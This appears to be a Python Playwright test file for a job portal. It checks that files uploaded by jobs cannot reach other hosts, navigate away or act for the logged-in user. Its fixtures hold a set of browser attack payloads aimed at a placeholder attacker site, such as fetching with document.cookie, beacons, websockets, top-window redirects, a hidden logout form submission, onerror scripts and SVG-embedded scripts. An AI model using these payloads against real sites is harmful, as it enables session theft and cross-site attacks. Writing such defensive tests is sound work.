"""Files of jobs that attack those who look at them: they reach no other host, no page of the
portal, and no session."""

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page

from tests.browser.hostile_site import HostileSite
from tests.browser.portal import Portal
from tests.end_to_end.service import eventually

# Each line would call the attacker's site, leave the page, open another, or act for the user.
PAGE = """<title>attack</title>
<meta http-equiv="refresh" content="0;url=SITE/refresh">
<base href="SITE/base/">
<link rel="stylesheet" href="SITE/style"><link rel="prefetch" href="SITE/prefetch">
<link rel="icon" href="SITE/icon"><link rel="manifest" href="SITE/manifest">
<style>@import "SITE/import"; @font-face { font-family: x; src: url(SITE/font) }
body { background: url(SITE/background); font-family: x }</style>
<p>text</p><img src="SITE/picture"><img srcset="SITE/set 2x"><a ping="SITE/ping" href="#">x</a>
<video src="SITE/video" autoplay></video><audio src="SITE/audio" autoplay></audio>
<iframe src="SITE/frame"></iframe><iframe srcdoc="&lt;img src=SITE/inner&gt;"></iframe>
<object data="SITE/object"></object><embed src="SITE/embed">
<form method="post" action="PORTAL/logout" target="_top"><input name="form_token"></form>
<script src="SITE/script"></script>
<script>SCRIPT</script>
<img src="x" onerror="SCRIPT">"""
SCRIPT = """
for (const attack of [
  () => fetch('SITE/fetch?' + document.cookie),
  () => fetch('PORTAL/api/v1/jobs').then((a) => a.text()).then((t) => { top.name = t }),
  () => navigator.sendBeacon('SITE/beacon'),
  () => new WebSocket('SITE/socket'.replace('http', 'ws')),
  () => new EventSource('SITE/events'),
  () => new Worker('SITE/worker'),
  () => { new Image().src = 'SITE/image' },
  () => { parent.document.title = 'hit' },
  () => { top.location = 'SITE/top' },
  () => { localStorage.hit = 1 },
  () => window.open('SITE/opened'),
  () => alert('hit'),
  () => document.forms[0].submit(),
  () => { location = 'SITE/self' },
]) {
  try { Promise.resolve(attack()).catch(() => 0) } catch (error) {}
}
""".replace("\n", " ")
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<image href="SITE/picture" xlink:href="SITE/picture" width="9" height="9"/>
<style>@import "SITE/import";</style><use href="SITE/use#x"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="SITE/frame"/>
</foreignObject><script><![CDATA[SCRIPT]]></script></svg>"""
FILES = {"attack.html": PAGE, "attack.svg": SVG, "attack.xhtml": SVG, "attack.txt": PAGE}


@pytest.fixture
def job(portal: Portal, site: HostileSite) -> str:
    """A job that has written these files; its id."""
    id = str(portal.call("POST", "/jobs", json={"script": "true\n"}).json()["id"])
    eventually(lambda: portal.call("GET", f"/jobs/{id}").json()["is_final"])
    for name, text in FILES.items():
        attack = text.replace("SCRIPT", SCRIPT).replace("SITE", site.url)
        data = attack.replace("PORTAL", portal.url).encode()
        answer = portal.call("PUT", f"/jobs/{id}/files/{name}", data=data)
        assert answer.status_code == 201, answer.text
    return id


def test_a_file_that_attacks_reaches_nothing(
    profile: BrowserContext, portal: Portal, site: HostileSite, job: str
) -> None:
    """In the portal's page, alone, with its scripts, or among the results, a file that a job wrote
    calls no other host, opens nothing, leaves the page as it is, and does nothing for the user."""
    page, dialogs = profile.new_page(), list[str]()

    def close(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    portal.log_in(page)
    ways = [f"/files/{name}{query}" for name in FILES for query in ("", "?scripts=1", "?raw=1")]
    for way in [*ways, "/results"]:
        url = f"{portal.url}/jobs/{job}{way}"
        page.goto(url)
        page.wait_for_load_state("networkidle")
        assert (page.url, site.reached(), dialogs) == (url, [], []), way
        assert page.title() != "hit", way
        assert len(profile.pages) == 1, way
    page.goto(f"{portal.url}/account")
    assert page.url == f"{portal.url}/account"
    assert page.evaluate("localStorage.length") == 0


def test_scripts_of_a_file_do_run_where_a_user_wants_them(
    profile: BrowserContext, portal: Portal, job: str
) -> None:
    """The frame of the test before does run scripts, so that their attacks were real; alone, the
    same file runs none."""
    page = profile.new_page()
    portal.log_in(page)
    data = b"<p>still</p><script>document.querySelector('p').textContent = 'moves'</script>"
    portal.call("PUT", f"/jobs/{job}/files/moves.html", data=data)
    page.goto(f"{portal.url}/jobs/{job}/files/moves.html?scripts=1")
    page.frame_locator("iframe.preview").locator("p:has-text('moves')").wait_for()
    page.goto(f"{portal.url}/jobs/{job}/files/moves.html?raw=1")
    assert page.inner_text("p") == "still"


def test_the_api_gives_a_file_to_be_kept(
    profile: BrowserContext, portal: Portal, site: HostileSite, job: str
) -> None:
    """A link to a file in the API is a download, not a page."""
    page: Page = profile.new_page()
    portal.log_in(page)
    for name in FILES:
        with page.expect_download() as download:
            page.evaluate(
                "url => { location = url }", f"{portal.url}/api/v1/jobs/{job}/files/{name}"
            )
        assert download.value.suggested_filename == name
    assert site.reached() == []
